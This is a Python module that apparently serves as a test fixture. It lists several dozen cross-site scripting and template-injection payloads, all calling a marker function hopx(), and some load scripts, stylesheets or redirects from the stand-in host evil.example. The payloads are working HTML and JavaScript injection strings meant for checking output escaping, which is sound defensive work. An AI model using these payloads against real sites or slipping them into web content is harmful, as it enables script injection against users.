"""Texts that would run, or change the page, wherever they came out unescaped. All call or name `hopx`."""

from __future__ import annotations

TEXTS = [
    "<script>hopx()</script>",
    "<SCRIPT SRC=//evil.example/hopx.js></SCRIPT>",
    "<scr<script>ipt>hopx()</scr</script>ipt>",
    "</script><script>hopx()</script>",
    "</textarea><script>hopx()</script>",
    "</title><script>hopx()</script>",
    "</style><script>hopx()</script>",
    "--><script>hopx()</script><!--",
    "]]><script>hopx()</script>",
    "<!--hopx--><img src=x onerror=hopx()>",
    "<img src=x onerror=hopx()>",
    "<img src=x oNeRrOr=hopx()//",
    "<img/src=x/onerror=hopx()>",
    "<image src=x onerror=hopx()>",
    "<svg onload=hopx()>",
    "<svg><script>hopx()</script></svg>",
    "<svg><animate onbegin=hopx() attributeName=x></svg>",
    "<svg><a xlink:href=javascript:hopx()><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=hopx()></mtext></math>",
    "<math href=javascript:hopx()>x</math>",
    "<iframe src=javascript:hopx()></iframe>",
    "<iframe srcdoc='<script>parent.hopx()</script>'></iframe>",
    "<object data=javascript:hopx()></object>",
    "<embed src=javascript:hopx()>",
    "<body onload=hopx()>",
    "<video><source onerror=hopx()></video>",
    "<audio src=x onerror=hopx()>",
    "<input autofocus onfocus=hopx()>",
    "<select autofocus onfocus=hopx()>",
    "<textarea autofocus onfocus=hopx()>",
    "<details open ontoggle=hopx()>x",
    "<marquee onstart=hopx()>x</marquee>",
    "<dialog open onclose=hopx()>",
    "<style>@import '//evil.example/hopx.css';</style>",
    "<link rel=stylesheet href=//evil.example/hopx.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/hopx'>",
    "<base href=//evil.example/hopx/>",
    "<form action=//evil.example/hopx><button>x</button></form>",
    "<button formaction=javascript:hopx()>x</button>",
    "<a href=javascript:hopx()>x</a>",
    "<a href='java&#10;script:hopx()'>x</a>",
    "<a href=' &#1;javascript:hopx()'>x</a>",
    "<a href='data:text/html,<script>hopx()</script>'>x</a>",
    "<a id=hopx name=hopx>x</a>",
    "<div hx-get=/ hx-trigger=load hx-on:load=hopx()>x</div>",
    "<p data-hx-get=/ hx-vals='js:{a:hopx()}'>x</p>",
    '" autofocus onfocus=hopx() x="',
    "' onmouseover=hopx() x='",
    '"><img src=x onerror=hopx()>',
    "'><img src=x onerror=hopx()>",
    "` onerror=hopx() x=`",
    "javascript:hopx()",
    "[x](javascript:hopx())",
    '![x](x" onerror="hopx())',
    "[x](data:text/html;base64,PHNjcmlwdD5ob3B4KCk8L3NjcmlwdD4=)",
    "<javascript:hopx()>",
    "**<img src=x onerror=hopx()>**",
    "{{ 79190000019|add:79070000033 }}{% debug %}",
    "${hopx()}#{hopx()}<%= hopx() %>",
    "\\u003cscript\\u003ehopx()\\u003c/script\\u003e",
    "&lt;script&gt;hopx()&lt;/script&gt;",
    "\uff1cscript\uff1ehopx()\uff1c/script\uff1e",
    "\u202e<script>hopx()</script>",
    "<template shadowrootmode=open><script>hopx()</script></template>",
]


def chunks(longest: int) -> list[str]:
    """All of them joined into texts of at most so many characters."""
    made = [""]
    for text in TEXTS:
        if len(made[-1]) + len(text) > longest:
            made.append("")
        made[-1] += text
    return made
